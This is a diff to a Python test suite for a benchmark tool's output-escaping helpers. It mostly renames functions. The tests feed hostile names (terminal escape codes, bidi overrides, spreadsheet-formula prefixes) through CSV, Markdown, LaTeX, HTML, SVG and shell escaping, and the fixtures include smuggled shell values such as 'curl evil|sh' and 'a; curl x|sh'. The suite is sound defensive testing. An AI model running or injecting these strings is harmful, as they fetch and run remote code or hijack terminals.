@@ -23,19 +23,28 @@ from test_figures import gallery
 from typer.testing import CliRunner
 
 from benchmark.analysis.figures import style
-from benchmark.analysis.reading import read
+from benchmark.analysis.reading import read_experiments
 from benchmark.cli import commands as cli_commands
 from benchmark.cli import progress, terminal
-from benchmark.cli.display import shown
+from benchmark.cli.display import show_activity
 from benchmark.experiment.cell import Cell
 from benchmark.experiment.schedule import Schedule
 from benchmark.experiment.spec import Spec
 from benchmark.plugins.discovery import discover
 from benchmark.records.sources import Sources
-from benchmark.records.store import Store, seal, slug
+from benchmark.records.store import Store, encode_line, slug
 from benchmark.runner import launch
-from benchmark.runner.gallery import write as write_gallery
-from benchmark.text.escaping import csv_read, csv_text, latex, markdown, pasted, shell, visible, visible_lines
+from benchmark.runner.gallery import write_npz as write_gallery
+from benchmark.text.escaping import (
+    escape_csv,
+    escape_latex,
+    escape_markdown,
+    make_lines_visible,
+    make_visible,
+    requote_command,
+    shell_command,
+    unescape_csv,
+)
 
 ROOT = Path(__file__).parent.parent
 UNSEEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")  # lines aside
@@ -54,24 +63,24 @@ EVIL = "\x1b]0;PWNED\x07\x9b31m\ncommand   curl evil|sh #\u202e\ud800 [red]`*_a_
 # --- one function for each medium ---------------------------------------------------------------
 @pytest.mark.parametrize("name", NAMES)
 def test_in_a_line_everything_is_seen(name: str) -> None:
-    text = visible(name)
+    text = make_visible(name)
     assert not UNSEEN.search(text)
     assert len(text.splitlines()) <= 1
-    assert visible(text) == text
+    assert make_visible(text) == text
     assert text.encode() or not name
     assert text == name or UNSEEN.search(name) or not name.isprintable()
 
 
 def test_what_stands_for_what_is_no_text() -> None:
-    assert visible("\x1b[31m\n\t\x9b\u202e\ud800") == r"\x1b[31m\n\t\x9b\u202e\ud800"
-    assert visible("né 猫 👩‍💻 می‌خواهم") == "né 猫 👩‍💻 می‌خواهم"
-    assert visible_lines("a\x1b\n  b\r\n") == "a\\x1b\n  b\\r\n"
+    assert make_visible("\x1b[31m\n\t\x9b\u202e\ud800") == r"\x1b[31m\n\t\x9b\u202e\ud800"
+    assert make_visible("né 猫 👩‍💻 می‌خواهم") == "né 猫 👩‍💻 می‌خواهم"
+    assert make_lines_visible("a\x1b\n  b\r\n") == "a\\x1b\n  b\\r\n"
 
 
 @pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
 def test_a_pasted_line_is_the_same_words_in_a_shell(tmp_path: Path) -> None:
     words = [name for name in NAMES if "\0" not in name and not re.search("[\ud800-\udbff]", name)]
-    line = shell(["printf", r"%s\0", *words])
+    line = shell_command(["printf", r"%s\0", *words])
     assert not UNSEEN.search(line)
     assert "\n" not in line
     done = subprocess.run(["bash", "-c", line], capture_output=True, cwd=tmp_path, env={"LC_ALL": "C.UTF-8"})
@@ -79,26 +88,26 @@ def test_a_pasted_line_is_the_same_words_in_a_shell(tmp_path: Path) -> None:
 
 
 def test_a_command_of_a_folder_has_no_operator() -> None:
-    assert pasted("python -m benchmark run 'tasks=[digits]' a; curl x|sh") == (
+    assert requote_command("python -m benchmark run 'tasks=[digits]' a; curl x|sh") == (
         "python -m benchmark run 'tasks=[digits]' 'a;' curl 'x|sh'"
     )
-    assert pasted("run 'not closed\n; ls") == r"$'run \'not closed\x0a; ls'"
-    assert pasted("") == ""
+    assert requote_command("run 'not closed\n; ls") == r"$'run \'not closed\x0a; ls'"
+    assert requote_command("") == ""
 
 
 @pytest.mark.parametrize("name", NAMES)
 def test_in_a_markdown_table_a_name_is_text(name: str) -> None:
-    text = f"| head |\n| --- |\n| {markdown(name)} |\n\n{markdown('x ' + name)}\n"
+    text = f"| head |\n| --- |\n| {escape_markdown(name)} |\n\n{escape_markdown('x ' + name)}\n"
     html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
     page = Html(html)
     assert set(page.tags) <= {"table", "thead", "tbody", "tr", "th", "td", "p"}
-    assert page.text.split() == ["head", *visible(name).split(), "x", *visible(name).split()]
-    assert not re.search(r"https?://|\bwww\.", markdown(name))  # GitHub makes links of these
+    assert page.text.split() == ["head", *make_visible(name).split(), "x", *make_visible(name).split()]
+    assert not re.search(r"https?://|\bwww\.", escape_markdown(name))  # GitHub makes links of these
 
 
 @pytest.mark.parametrize("name", NAMES)
 def test_in_a_latex_table_a_name_is_text(name: str) -> None:
-    text = latex(name)
+    text = escape_latex(name)
     macros = {
         r"\textbackslash{}": "\\", r"\textasciitilde{}": "~", r"\textasciicircum{}": "^", r"\textless{}": "<",
         r"\textgreater{}": ">", r"\textbar{}": "|", "-{}-": "--", **{f"\\{mark}": mark for mark in "&%$#_{}"},
@@ -107,22 +116,22 @@ def test_in_a_latex_table_a_name_is_text(name: str) -> None:
     assert not re.search(r"[\\&%$#_^~|<>]", re.sub(known, "", text))
     assert not text.startswith(("[", "*"))  # else an argument of the \\ above it
     body = text.removeprefix("{}") if text[2:3] in ("[", "*") else text
-    assert re.sub(known, lambda match: macros[match[0]], body) == visible(name)
+    assert re.sub(known, lambda match: macros[match[0]], body) == make_visible(name)
 
 
 @pytest.mark.parametrize("name", NAMES)
 def test_a_spreadsheet_computes_no_name_and_it_is_read_again(name: str) -> None:
     text = io.StringIO()
-    csv.writer(text).writerow([csv_text(name), csv_text(-0.5), csv_text(None)])
+    csv.writer(text).writerow([escape_csv(name), escape_csv(-0.5), escape_csv(None)])
     [[cell, number, nothing]] = csv.reader(io.StringIO(text.getvalue()))
-    assert csv_read(cell) == visible(name)
+    assert unescape_csv(cell) == make_visible(name)
     assert (number, nothing) == ("-0.5", "")
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) < 0
 
 
 def test_numbers_stay_numbers_in_a_csv_file() -> None:
     for number in ("-0.5", "+3", "-1e-3", "12", "0.02366667", "'t Hooft"):
-        assert csv_read(str(csv_text(number))) == csv_text(number) == number
+        assert unescape_csv(str(escape_csv(number))) == escape_csv(number) == number
 
 
 # --- a folder in which every name is hostile ----------------------------------------------------
@@ -146,7 +155,7 @@ def resealed(path: Path, change: Callable[[list[dict[str, Any]]], None]) -> None
     """Lines of records, changed and sealed anew."""
     bodies = [json.loads(line)["body"] for line in path.read_bytes().splitlines()]
     change(bodies)
-    path.write_bytes(b"".join(map(seal, bodies)))
+    path.write_bytes(b"".join(map(encode_line, bodies)))
 
 
 def evil(text: str) -> str:
@@ -190,8 +199,8 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
     for path in (store.folder / "measured").rglob("*.jsonl"):
         resealed(path, spoil_measured)
     files = {"pool": [(evil(f"{number}.png"), "0") for number in range(100)], "test": []}
-    store.keep_sources(evil("digits"), Sources("data", files, [evil("FAULT: odd")]))
-    store.fail("made/crashed/seed-0", f"Traceback\n  File {EVIL}\n")
+    store.save_sources(evil("digits"), Sources("data", files, [evil("FAULT: odd")]))
+    store.save_failure("made/crashed/seed-0", f"Traceback\n  File {EVIL}\n")
     classes = np.array([evil("dog"), evil("cat"), evil("cow")], np.str_)
     pictures = gallery().__dict__ | {"classes_C": classes, "labels_P": np.arange(100) % 3}
     write_gallery(store.folder / "gallery" / f"{slug(evil('made'))}.npz", pictures)
@@ -242,7 +251,7 @@ def test_a_page_shows_hostile_names_as_text(written: Path) -> None:
     assert not [name for name, _ in page.attributes if name.startswith("on")]
     links = [value or "" for name, value in page.attributes if name in ("href", "src")]
     assert all(link.startswith(("#", "cells/", "data:image/")) for link in links)
-    assert visible(evil("=mine")) in page.text
+    assert make_visible(evil("=mine")) in page.text
     assert page.text.count("\ncommand   curl") == 0
 
 
@@ -261,14 +270,14 @@ def test_svg_figures_parse_and_hold_the_names(written: Path) -> None:
         for node in ElementTree.parse(path).iter()
         if node.tag.endswith("}text")
     ]
-    assert any(visible(evil("=mine"))[:30] in text for text in texts)
+    assert any(make_visible(evil("=mine"))[:30] in text for text in texts)
     assert not any(node.tag.endswith("}script") for p in written.rglob("*.svg") for node in ElementTree.parse(p).iter())
 
 
 def test_a_figure_writes_nothing_but_text(tmp_path: Path) -> None:
-    @style.styled
+    @style.with_style
     def drawn() -> Figure:
-        figure, axes = style.framed(["a"])
+        figure, axes = style.single_plot(["a"])
         axes.set_title(EVIL)
         axes.text(0, 0, EVIL)
         axes.set_xlabel("two\nlines")
@@ -277,7 +286,7 @@ def test_a_figure_writes_nothing_but_text(tmp_path: Path) -> None:
     figure = drawn()
     assert figure is not None
     assert figure.axes[0].get_xlabel() == "two\nlines"
-    text = style.save(figure, tmp_path / "stem")[1].read_text(encoding="utf-8")
+    text = style.save_figure(figure, tmp_path / "stem")[1].read_text(encoding="utf-8")
     assert not UNSEEN.search(text)
     assert text.count("PWNED") == 2
     ElementTree.fromstring(text)
@@ -288,16 +297,16 @@ def test_markdown_tables_render_as_text(written: Path) -> None:
     page = Html(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(path.read_text()))
     assert set(page.tags) <= {"h3", "table", "thead", "tbody", "tr", "th", "td", "p"}
     assert page.tags.count("tr") == 1 + 4
-    assert f"{visible(evil('=mine'))}†" in page.text
+    assert f"{make_visible(evil('=mine'))}†" in page.text
 
 
 def test_our_reader_takes_the_apostrophe_away(written: Path) -> None:
     [path] = [path for path in (written / "tables").glob("made*.csv")]
     with open(path, newline="") as handle:
         rows = list(csv.DictReader(handle))
-    assert {row["strategy"] for row in rows} >= {"random", "'" + visible(evil("=mine"))}
-    [experiment] = read(str(path))
-    assert list(experiment.curves) == ["random", visible(evil("=mine")), visible(evil("=other"))]
+    assert {row["strategy"] for row in rows} >= {"random", "'" + make_visible(evil("=mine"))}
+    [experiment] = read_experiments(str(path))
+    assert list(experiment.curves) == ["random", make_visible(evil("=mine")), make_visible(evil("=other"))]
     assert experiment.curves["random"].value_SR.tolist() == [[51.0, 61.0, 66.0]]
 
 
@@ -312,9 +321,9 @@ def test_the_live_lines_of_a_run_show_names_whole(monkeypatch: pytest.MonkeyPatc
     discover()
     cell = Cell(Spec.read("task", "digits"), Spec.read("strategy", "isal[k=2]"), Schedule(1, 1, 1), 0)
     console = Console(file=io.StringIO(), force_terminal=True, width=200, color_system=None, _environ={})
-    events = [launch.Started(cell), launch.Failure(cell, KeyError("[/red] \x1b]0;x\x07"), False)]
-    with shown(console) as display:
-        list(progress.follow(events, {}, display))
+    events = [launch.CellStarted(cell), launch.Failure(cell, KeyError("[/red] \x1b]0;x\x07"), False)]
+    with show_activity(console) as display:
+        list(progress.show_progress(events, {}, display))
         console.print(display)
         assert display.live
     text = console.file.getvalue()  # type: ignore[attr-defined]
@@ -326,7 +335,7 @@ def test_the_live_lines_of_a_run_show_names_whole(monkeypatch: pytest.MonkeyPatc
 
 def test_a_kept_traceback_commands_no_terminal(tmp_path: Path) -> None:
     store = Store(tmp_path)
-    store.fail("a/b/c/seed-0", f"Traceback\n  {EVIL}")
+    store.save_failure("a/b/c/seed-0", f"Traceback\n  {EVIL}")
     text = (tmp_path / "failures" / "a" / "b" / "c" / "seed-0.txt").read_text()
     assert text.startswith("Traceback\n  \\x1b]0;PWNED")
     assert not UNSEEN.search(text)
